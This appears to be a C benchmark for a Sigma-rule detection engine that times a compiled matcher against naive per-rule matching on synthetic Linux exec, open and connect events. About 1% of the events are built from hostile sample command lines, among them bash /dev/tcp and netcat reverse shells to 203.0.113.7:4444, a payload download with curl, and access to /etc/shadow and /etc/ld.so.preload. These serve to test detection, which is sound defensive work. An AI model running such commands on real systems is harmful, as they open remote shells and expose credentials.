/*
 * bench/match: a realistic event mix (mostly benign execs, opens and
 * connects, about 1% that trigger rules) through ../shared/sigma plus the
 * built-in rules, once with the compiled matcher and once with the naive
 * per-rule evaluation, on one core. Both must give the same incidents.
 * Usage: bench/match [BUILD_DIR] [--events N] [--sigma DIR]
 */
#include "match.h"
#include "sigma.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define POOL 8192

static struct imm_event pool[POOL];

static const char *benign_exe[] = {
	"/usr/bin/ls", "/usr/bin/cat", "/usr/bin/grep", "/usr/bin/sed", "/usr/bin/awk", "/usr/bin/git",
	"/usr/bin/make", "/usr/bin/gcc", "/usr/bin/python3.11", "/usr/bin/bash", "/usr/bin/sh", "/usr/bin/systemctl",
	"/usr/sbin/sshd", "/usr/bin/sort", "/usr/bin/find", "/usr/bin/tar", "/usr/bin/curl", "/usr/lib/systemd/systemd",
	"/usr/bin/ps", "/usr/bin/date", "/usr/bin/node", "/usr/bin/java", "/usr/bin/dpkg", "/usr/bin/apt-get",
};
static const char *benign_cmd[] = {
	"ls -la /home/alice/src", "cat README.md", "grep -rn TODO src/", "sed -i s/foo/bar/ main.c",
	"awk '{print $1}' access.log", "git status --porcelain", "make -j8 all", "gcc -O2 -c main.c -o main.o",
	"python3 manage.py runserver 0.0.0.0:8000", "bash -c 'echo hello'", "sh -c 'test -f /etc/os-release'",
	"systemctl status nginx.service", "sshd: alice [priv]", "sort -u words.txt", "find . -name '*.o' -delete",
	"tar czf backup.tgz /srv/www", "curl -s https://api.github.com/repos/x/y", "/usr/lib/systemd/systemd --user",
	"ps aux", "date +%s", "node server.js --port 3000", "java -jar app.jar", "dpkg -l", "apt-get update",
};
static const char *parents[] = { "/usr/bin/bash", "/usr/lib/systemd/systemd", "/usr/sbin/sshd", "/usr/bin/make",
				 "/usr/sbin/cron" };
static const char *paths_read[] = { "/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/passwd",
				    "/home/alice/src/main.c", "/proc/self/status", "/etc/nsswitch.conf",
				    "/usr/share/locale/locale.alias", "/var/lib/dpkg/status" };
static const char *paths_write[] = { "/home/alice/src/main.o", "/tmp/tmp.XYZ123", "/var/log/nginx/access.log",
				     "/home/alice/.cache/pip/http/abc", "/run/user/1000/bus.lock" };
static const char *ips[] = { "140.82.112.3", "151.101.1.69", "10.0.0.12", "192.168.1.1", "2606:4700::6810:85e5",
			     "127.0.0.1" };
static const uint16_t ports[] = { 443, 80, 53, 22, 5432, 8080 };

/* The ~1%: shapes the rules look for. */
static const char *bad_exe[] = { "/tmp/.x/payload", "/usr/bin/bash", "/usr/bin/nc", "/usr/bin/curl", "/usr/bin/base64",
				 "/usr/bin/chmod" };
static const char *bad_cmd[] = { "./payload -d", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "nc -e /bin/sh 203.0.113.7 4444",
				 "curl -k https://203.0.113.7/a.tar --no-check-certificate -o /tmp/a.tar",
				 "base64 -d /tmp/p.b64", "chmod +x /tmp/.x/payload" };

static uint64_t rng = 88172645463325252ull;
static uint64_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng;
}
#define PICK(a) (a[rnd() % (sizeof(a) / sizeof(a[0]))])

static void make_pool(void)
{
	for (int i = 0; i < POOL; i++) {
		struct imm_event *e = &pool[i];
		memset(e, 0, sizeof(*e));
		e->pid = 1000 + i;
		e->ppid = 999;
		e->uid = 1000;
		e->loginuid = 1000;
		e->user_name = "alice";
		e->cwd = "/home/alice";
		e->parent_executable = PICK(parents);
		e->parent_command_line = "-bash";
		e->outcome = IMM_OUTCOME_SUCCESS;
		int k = rnd() % 100;
		bool bad = rnd() % 100 == 0;
		if (k < 40) {
			int j = bad ? (int)(rnd() % 6) : (int)(rnd() % 24);
			e->type = EBPF_EVENT_EXEC;
			e->executable = bad ? bad_exe[j] : benign_exe[j];
			e->filename = e->executable;
			e->command_line = bad ? bad_cmd[j] : benign_cmd[j];
		} else if (k < 90) {
			int j = rnd() % 24;
			e->type = EBPF_EVENT_OPEN;
			e->executable = benign_exe[j];
			e->command_line = benign_cmd[j];
			bool w = rnd() % 4 == 0;
			e->path = e->abs_path = bad ? (w ? "/etc/ld.so.preload" : "/etc/shadow") : w ? PICK(paths_write) : PICK(paths_read);
			e->open_flags = w ? O_WRONLY | O_CREAT | O_TRUNC : O_RDONLY;
			e->ret = 3;
		} else {
			int j = rnd() % 24;
			e->type = EBPF_EVENT_CONNECT;
			e->executable = bad ? "/usr/bin/bash" : benign_exe[j];
			e->command_line = bad ? "bash -i" : benign_cmd[j];
			const char *ip = bad ? "203.0.113.7" : PICK(ips);
			snprintf(e->dst_ip, sizeof(e->dst_ip), "%s", ip);
			e->family = strchr(ip, ':') ? AF_INET6 : AF_INET;
			e->dst_port = bad ? 4444 : PICK(ports);
			e->transport = "tcp";
		}
		e->name = strrchr(e->executable, '/') + 1;
	}
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

typedef int (*match_fn)(struct matcher *, const struct imm_event *, const struct sigma_rule **, int);

/* Returns events/s; *sig is an order-sensitive digest of (event, rule) pairs. */
static double run(struct matcher *m, match_fn fn, long n, uint64_t *sig, uint64_t *hits)
{
	const struct sigma_rule *h[64];
	uint64_t s = 1469598103934665603ull, nh = 0;
	double t0 = now();
	for (long i = 0; i < n; i++) {
		int k = fn(m, &pool[i % POOL], h, 64);
		for (int j = 0; j < k && j < 64; j++) {
			s = (s ^ (uint64_t)(uintptr_t)h[j] ^ (uint64_t)i * 0x9e3779b97f4a7c15ull) * 1099511628211ull;
			nh++;
		}
	}
	double dt = now() - t0;
	*sig = s;
	*hits = nh;
	return n / dt;
}

int main(int argc, char **argv)
{
	long n = 2000000;
	const char *sigma = "../shared/sigma";
	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--events") == 0 && i + 1 < argc)
			n = atol(argv[++i]);
		else if (strcmp(argv[i], "--sigma") == 0 && i + 1 < argc)
			sigma = argv[++i];
	}
	struct sigma_ruleset rs;
	sigma_ruleset_init(&rs);
	FILE *devnull = fopen("/dev/null", "w");
	static const char *dirs[] = { "rules/linux", "rules-emerging-threats", "rules-threat-hunting" };
	char p[1024];
	for (int i = 0; i < 3; i++) {
		snprintf(p, sizeof(p), "%s/%s", sigma, dirs[i]);
		sigma_load_path(&rs, p, devnull, false);
	}
	sigma_load_builtin(&rs, devnull, false);
	fclose(devnull);
	double t0 = now();
	struct matcher *m = matcher_new(&rs);
	double tc = now() - t0;
	struct matcher_stats st;
	matcher_get_stats(m, &st);
	printf("rules: %u loaded (%u skipped) from %s + built-in; compiled in %.1f ms: %u atoms, %u literals, "
	       "%u automaton states, %u rules without a literal guard\n",
	       rs.loaded, rs.skipped, sigma, tc * 1e3, st.atoms, st.literals, st.ac_states, st.always);
	make_pool();

	uint64_t sc, sn, hc, hn;
	run(m, matcher_match, n / 10, &sc, &hc); /* warm up */
	double rc = run(m, matcher_match, n, &sc, &hc);
	double rn = run(m, matcher_match_naive, n, &sn, &hn);
	printf("events: %ld (%d distinct), incidents: %llu (%.2f%% of events)\n", n, POOL, (unsigned long long)hc,
	       100.0 * hc / n);
	printf("compiled matcher: %12.0f events/s\n", rc);
	printf("naive per-rule:   %12.0f events/s\n", rn);
	printf("ratio: %.1fx; identical incidents: %s\n", rc / rn, sc == sn && hc == hn ? "yes" : "NO");
	printf("target 1,000,000 events/s on one core: %s\n", rc >= 1e6 ? "met" : "NOT met");
	matcher_free(m);
	sigma_ruleset_free(&rs);
	return sc == sn && hc == hn ? 0 : 1;
}
